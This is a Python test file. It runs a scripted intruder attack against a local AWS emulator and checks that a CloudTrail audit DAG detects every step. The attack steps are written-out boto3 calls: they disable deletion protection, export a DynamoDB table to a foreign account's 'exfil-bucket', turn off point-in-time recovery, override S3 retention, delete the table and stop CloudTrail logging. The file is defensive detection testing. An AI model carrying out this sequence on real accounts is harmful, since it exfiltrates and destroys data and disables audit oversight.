"""End to end: an attacker works against the emulator with boto3, the emulator records it as CloudTrail,
and the cloudtrail_audit DAG (dag.test) finds every step with the attacker's role and the right severity."""

from __future__ import annotations

import json
from datetime import UTC, datetime, timedelta

import pytest

from tests.aws.audit_helpers import TRAIL, assume, flush_trail

pytestmark = [pytest.mark.aws, pytest.mark.airflow]

H = datetime(2026, 2, 1, 10, tzinfo=UTC)
REPORT = "reports/cloudtrail_audit/20260201T1000Z_20260201T1100Z/"
INTRUDER = "arn:aws:iam::111111111111:role/intruder"


def attack(seeded) -> None:
    """Each step a finding: weaken, exfiltrate, read, tamper with retention, destroy, blind the trail."""
    seeded.client("s3").put_object(Bucket="dynamoguard-exports", Key="exports/orders/x.json.gz", Body=b"backup")
    session = assume(seeded.endpoint, "intruder", "evil")
    ddb = session.client("dynamodb", endpoint_url=seeded.endpoint)
    ddb.update_table(TableName="orders", DeletionProtectionEnabled=False)
    orders_arn = ddb.describe_table(TableName="orders")["Table"]["TableArn"]
    ddb.export_table_to_point_in_time(TableArn=orders_arn, S3Bucket="exfil-bucket", S3BucketOwner="999999999999")
    ddb.update_continuous_backups(TableName="orders",
                                  PointInTimeRecoverySpecification={"PointInTimeRecoveryEnabled": False})
    ddb.get_item(TableName="inventory", Key={"sku": {"S": "sku-0001"}})
    ddb.scan(TableName="inventory")
    session.client("s3", endpoint_url=seeded.endpoint).put_object_retention(
        Bucket="dynamoguard-exports", Key="exports/orders/x.json.gz", BypassGovernanceRetention=True,
        Retention={"Mode": "COMPLIANCE", "RetainUntilDate": datetime.now(UTC) + timedelta(days=400)})
    ddb.delete_table(TableName="orders")
    session.client("cloudtrail", endpoint_url=seeded.endpoint).stop_logging(Name=TRAIL)


def test_attack_recorded_by_the_emulator_is_found_by_the_audit_dag(seeded, airflow_db):
    from tests.dags.test_audit_dag import audit_dag

    flush_trail(seeded.endpoint)  # the seed's own calls, delivered now, outside the audited hour
    attack(seeded)
    # CloudTrail delivers the hour's records at 10:20 and its digest at 10:50 (replayed at those times).
    delivered = flush_trail(seeded.endpoint, at=H + timedelta(minutes=20))["logs"]
    assert delivered
    flush_trail(seeded.endpoint, at=H + timedelta(minutes=50), digest=True)

    dag_run = audit_dag().test(run_after=H + timedelta(hours=1), logical_date=H + timedelta(hours=1))
    assert dag_run.state == "failed"  # critical findings fail the run (audit.fail_on_high)
    body = seeded.client("s3").get_object(Bucket="dynamoguard-reports", Key=REPORT + "findings.jsonl")["Body"].read()
    findings = [json.loads(line) for line in body.splitlines()]
    by_intruder = {(f["rule"], f["severity"], f["table"]) for f in findings if f["principal"] == INTRUDER}
    assert by_intruder >= {
        ("ddb-deletion-protection-off", "high", "orders"),
        ("ddb-export-foreign", "high", "orders"),
        ("ddb-read-not-allowed", "high", "orders"),  # the export reads the whole table
        ("ddb-pitr-disabled", "critical", "orders"),
        ("ddb-read-not-allowed", "high", "inventory"),  # GetItem and Scan, one finding
        ("s3-retention-changed", "high", None),
        ("ddb-delete-table", "critical", "orders"),
        ("trail-stopped", "critical", None),
    }
    reads = next(f for f in findings if f["rule"] == "ddb-read-not-allowed" and f["table"] == "inventory")
    assert reads["detail"]["event_names"] == {"GetItem": 1, "Scan": 1}
    assert ("critical", "Trail is not logging") in {(f["severity"], f["title"]) for f in findings}
    assert not [f for f in findings if f["rule"].startswith(("log-file", "digest-")) and f["severity"] != "low"]
    summary = json.loads(seeded.client("s3").get_object(Bucket="dynamoguard-reports",
                                                        Key=REPORT + "summary.json")["Body"].read())
    assert summary["top_findings"][0]["severity"] == "critical"
    assert {f["rule"] for f in summary["top_findings"]} >= {"ddb-delete-table", "trail-stopped"}
